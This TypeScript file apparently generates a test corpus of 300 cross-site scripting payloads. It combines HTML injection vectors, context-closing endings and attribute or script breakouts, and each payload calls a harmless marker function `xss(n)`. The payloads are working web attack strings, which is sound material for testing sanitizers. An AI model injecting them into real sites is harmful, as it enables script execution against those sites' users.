/** 300 texts that run a script wherever they get into a page unescaped; each calls `xss` with its number. */

const vectors: ((n: number) => string)[] = [
  (n) => `<script>xss(${n})</script>`,
  (n) => `<ScRiPt >xss(${n})</sCrIpT>`,
  (n) => `<img src=x onerror=xss(${n})>`,
  (n) => `<img/src="x"onerror=xss(${n})>`,
  (n) => `<img src=x onerror="&#120;ss(${n})">`,
  (n) => `<svg onload=xss(${n})>`,
  (n) => `<svg/onload=xss(${n})//`,
  (n) => `<svg><script>xss(${n})</script>`,
  (n) => `<iframe srcdoc="<script>parent.xss(${n})</script>">`,
  (n) => `<iframe src=javascript:parent.xss(${n})>`,
  (n) => `<details open ontoggle=xss(${n})>`,
  (n) => `<input autofocus onfocus=xss(${n})>`,
  (n) => `<video><source onerror=xss(${n})></video>`,
  (n) => `<audio src=x onerror=xss(${n})>`,
  (n) => `<object data=javascript:xss(${n})>`,
  (n) => `<a href=javascript:xss(${n})>x</a>`,
  (n) => `<form action=javascript:xss(${n})><button>x`,
  (n) => `<button onclick=xss(${n})>x</button>`,
  (n) => `<style onload=xss(${n})></style>`,
  (n) => `<link rel=stylesheet href=x onerror=xss(${n})>`,
];

/** The endings of the contexts in which the text may stand. */
const ends = [
  '',
  '">',
  "'>",
  '`>',
  '>',
  '</script>',
  '</title>',
  '</style>',
  '</option>',
  '</a>',
  '-->',
  ']]>',
  '</svg>',
  '\\">',
];

/** For contexts inside of attributes and scripts. */
const within: ((n: number) => string)[] = [
  (n) => `javascript:xss(${n})`,
  (n) => `JaVaScRiPt:xss(${n})`,
  (n) => `javascript:/*x*/xss(${n})`,
  (n) => `';xss(${n})//`,
  (n) => `'-xss(${n})-'`,
  (n) => `'+xss(${n})+'`,
  (n) => `'||xss(${n})||'`,
  (n) => `';xss(${n});'`,
  (n) => `' ;xss(${n});//<!--`,
  (n) => `';void xss(${n})//`,
  (n) => `" onfocus=xss(${n}) autofocus x="`,
  (n) => `" onmouseover=xss(${n}) x="`,
  (n) => `" style=x onclick=xss(${n}) x="`,
  (n) => `x"onpointerenter="xss(${n})`,
  (n) => `"/onerror=xss(${n})/x="`,
  (n) => `" accesskey=x onclick=xss(${n}) "`,
  (n) => `x" tabindex=1 onfocusin=xss(${n}) "`,
  (n) => `"onanimationstart=xss(${n}) "`,
  (n) => `" onauxclick=xss(${n})>`,
  (n) => `</p><p onclick=xss(${n})>`,
];

export const payloads: readonly string[] = [
  ...ends.flatMap((end) => vectors.map((vector) => (n: number) => end + vector(n))),
  ...within,
].map((make, n) => make(n));
